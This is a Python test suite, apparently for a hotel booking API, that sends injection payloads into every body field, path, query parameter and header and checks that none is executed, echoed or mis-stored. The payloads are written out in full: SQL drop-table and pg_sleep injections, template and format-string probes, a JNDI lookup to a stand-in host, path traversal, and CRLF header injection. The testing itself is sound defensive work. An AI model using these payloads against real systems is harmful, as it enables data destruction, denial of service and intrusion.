"""Injection: SQL, templates, format strings and line ends in every field of the document that takes a text.

Nothing is run, expanded or echoed as a header; no payload makes an error of ours; what is accepted is kept to the
letter. The fields are those of the OpenAPI document, so a new one is in here.
"""

from collections.abc import Iterator
from itertools import cycle
from typing import Any
from urllib.parse import quote

import httpx

from tests.attacks.document import Field, Operation, operations
from tests.clients import project, stay
from tests.eventstore.house import superuser
from tests.permissions.conftest import World
from tests.permissions.requests import asked

_PRODUCT = "9801547"
"""What a template engine would make of 1337*7331."""

# None is longer than the shortest free text takes. %d becomes a number, so that each is found again.
PAYLOADS = {
    "sql": "x%d'; drop table identity.session; --' or '1'='1",
    "sql, escaped": "x%d\\'||(select pg_sleep(60))||\\'\"$1 $2::text;rollback;--",
    "templates": "x%d${1337*7331}{{1337*7331}}<%%=1337*7331%%>#{1337*7331}",
    "formats and pages": "x%d%%s%%n%%(a)s{0.__class__}<script>${jndi:ldap://e.ex}/../etc",
}
LINE_ENDS = "x\r\nSet-Cookie: stolen=1\r\nX-Injected: yes\r\n\r\nHTTP/1.1 200 OK"

# What must not lie in the clear: passwords are hashed, and words about a guest are sealed with the guest's key.
_NOT_IN_THE_CLEAR = {"password", "new_password", "note", "sent_to", "reason", "phone"}

_FIND = """
    select format('select exists (select from %s t where strpos(to_jsonb(t)::text, $1) > 0)', c.oid::regclass)
      from pg_class c join pg_namespace n on n.oid = c.relnamespace
     where n.nspname in ('read', 'identity') and c.relkind = 'r'
     union all
    select 'select exists (select from ledger.event where strpos(data::jsonb::text, $1) > 0)'
"""


def _payloads() -> Iterator[str]:
    number = 0
    while True:
        for payload in PAYLOADS.values():
            number += 1
            yield payload % (1_000_000 + number)


def _faults(said: str, answer: httpx.Response) -> Iterator[str]:
    if answer.status_code >= 500:
        yield f"BROKEN {said} -> {answer.status_code} {answer.text[:300]}"
    if 300 <= answer.status_code < 400 or not answer.headers.get("location", "/v1/").startswith("/v1/"):
        yield f"LED ELSEWHERE {said} -> {answer.headers.get('location')}"
    if _PRODUCT in answer.text or "<class" in answer.text:
        yield f"EXPANDED {said} -> {answer.text[:300]}"
    for name, value in answer.headers.items():
        if name == "x-injected" or "stolen" in value or "\r" in value or "\n" in value:
            yield f"HEADER {said} -> {name}: {value}"


def _a_day(days: Iterator[int] = cycle(range(40, 600))) -> int:  # noqa: B008 - one that goes on is what is wanted
    """Another day for each booking, or the house would be full."""
    return next(days)


async def _fresh(world: World, operation: Operation) -> str:
    """The operation's path at the own hotel; if it is about a booking, about one that is good for anything."""
    path = asked(world, operation.name, operation.action, world.own).path
    if "{booking_id}" not in operation.path or not operation.path.startswith("/v1/hotels"):
        return path
    made = await world.people["administrator"].post(
        f"/v1/hotels/{world.own.hotel_id}/bookings", json=stay(nights=1, begins_in=_a_day())
    )
    assert made.status_code == 201, made.text
    return path.replace(world.own.booking_id, made.json()["booking_id"])


def _body(operation: Operation, field: Field, payload: str) -> Any:
    body = operation.with_value(field.path, payload)
    if operation.path.endswith(("/cancel", "/walk")):
        body.pop("lines", None)  # one that isn't there would hide what becomes of the words
    if operation.path.endswith("/register") and field.path != ("email",):
        body["email"] = f"new{_a_day()}@example.org"  # one that is known already would change nothing
    return body


async def _send(world: World, operation: Operation, path: str, **content: Any) -> httpx.Response:
    client = world.people["administrator"]
    answer = await client.request(operation.method, path, **content)
    client.cookies.clear()
    return answer


async def _is_kept(world: World, payload: str) -> bool:
    await project(world.service.settings)
    async with superuser(world.service.settings) as connection:
        as_json = await connection.fetchval("select trim(both '\"' from to_jsonb($1::text)::text)", payload)
        return any([await connection.fetchval(statement, as_json) for (statement,) in await connection.fetch(_FIND)])


async def test_in_every_field_of_every_body(world: World) -> None:
    faults: list[str] = []
    payloads, fields, kept = _payloads(), 0, set()
    for operation in operations(world.service.app):
        for field in operation.strings():
            fields += 1
            for payload in [*(next(payloads) for _ in PAYLOADS), LINE_ENDS]:
                path = await _fresh(world, operation)
                answer = await _send(world, operation, path, json=_body(operation, field, payload))
                said = f"{operation.name} {field.pointer} {payload!r}"
                faults += _faults(said, answer)
                name = str(field.path[-1] if isinstance(field.path[-1], str) else field.path[-2])
                if answer.is_success and name not in _NOT_IN_THE_CLEAR:
                    kept.add(name)
                    faults += [] if await _is_kept(world, payload) else [f"NOT KEPT {said} -> {answer.text[:200]}"]
    assert not faults, "\n".join(faults)
    assert fields > 60
    assert {"full_name", "name", "city", "channel"} <= kept  # so there is something that shows it


# All in one: a path or query that is refused for one is refused for all, and none is kept.
_IN_PATHS = ("".join(payload % 1 for payload in PAYLOADS.values()), "\x00", "\ud7ff\uffff", "%00%0d%0a")


async def test_in_every_path_and_query(world: World) -> None:
    faults: list[str] = []
    known = {"hotel_id": world.own.hotel_id, "booking_id": world.own.booking_id, "code": "DBL", "room": "101"}
    known |= {"email": "member@example.org", "guest_id": world.own.guest_id, "name": "arrivals", "schedule": "sweep"}
    known |= dict.fromkeys(("mail_id", "dead_letter_id"), "0b7f3a2e-0000-7000-8000-000000000000")
    for operation in operations(world.service.app):
        request = asked(world, operation.name, operation.action, world.own)
        for payload in (*_IN_PATHS, LINE_ENDS):
            for parameter in operation.parameters_in("path"):
                path = operation.path.replace(f"{{{parameter['name']}}}", quote(payload, safe=""))
                path = path.format_map(known)
                answer = await _send(world, operation, path, params=request.given.query, json=request.body)
                faults += _faults(f"{operation.method} {path}", answer)
                if answer.is_success:
                    faults.append(f"LET IN {operation.method} {path} -> {answer.status_code}")
            for parameter in [*operation.parameters_in("query"), {"name": "no_such_parameter"}, {"name": payload}]:
                query = {**request.given.query, parameter["name"]: payload}
                answer = await _send(world, operation, request.path, params=query, json=request.body)
                faults += _faults(f"{operation.name} ?{parameter['name']}={payload!r}", answer)
    assert not faults, "\n".join(faults)


# Every header that is read anywhere, or comes back in an answer.
_HEADERS = (
    "Idempotency-Key", "If-Match", "If-None-Match", "StaySync-Min-Position", "X-Request-Id", "X-Correlation-Id",
    "X-CSRF-Token", "Origin", "Referer", "User-Agent", "Accept", "Accept-Encoding", "Cookie", "Authorization",
    "X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Host", "Forwarded",
)  # fmt: skip
_IN_HEADERS = [payload % 1 for payload in PAYLOADS.values()] + ["\x80\xff", "x" * 4000, ",;=\"'\\"]


async def test_in_every_header_alone(world: World) -> None:
    faults: list[str] = []
    bookings = f"/v1/hotels/{world.own.hotel_id}/bookings"
    for header in _HEADERS:
        for payload in _IN_HEADERS:
            client, headers = world.people["administrator"], [(header.encode(), payload.encode("latin-1"))]
            for answer in (
                await client.post(bookings, json=stay(state="hold"), headers=headers),
                await client.get(bookings, headers=headers),
                await client.post("/v1/auth/refresh", headers=headers),
            ):
                faults += _faults(f"{answer.request.url.path} {header}: {payload!r}", answer)
    assert not faults, "\n".join(faults)


async def test_in_all_headers_of_every_operation(world: World) -> None:
    faults: list[str] = []
    for operation in operations(world.service.app):
        request = asked(world, operation.name, operation.action, world.own)
        for payload in ("".join(_IN_HEADERS), *_IN_HEADERS[:2]):
            headers = [(name.encode(), payload.encode("latin-1")) for name in _HEADERS if name != "Authorization"]
            answer = await _send(
                world, operation, request.path, params=request.given.query, json=request.body, headers=headers
            )
            faults += _faults(f"{operation.name} {payload!r}", answer)
    assert not faults, "\n".join(faults)
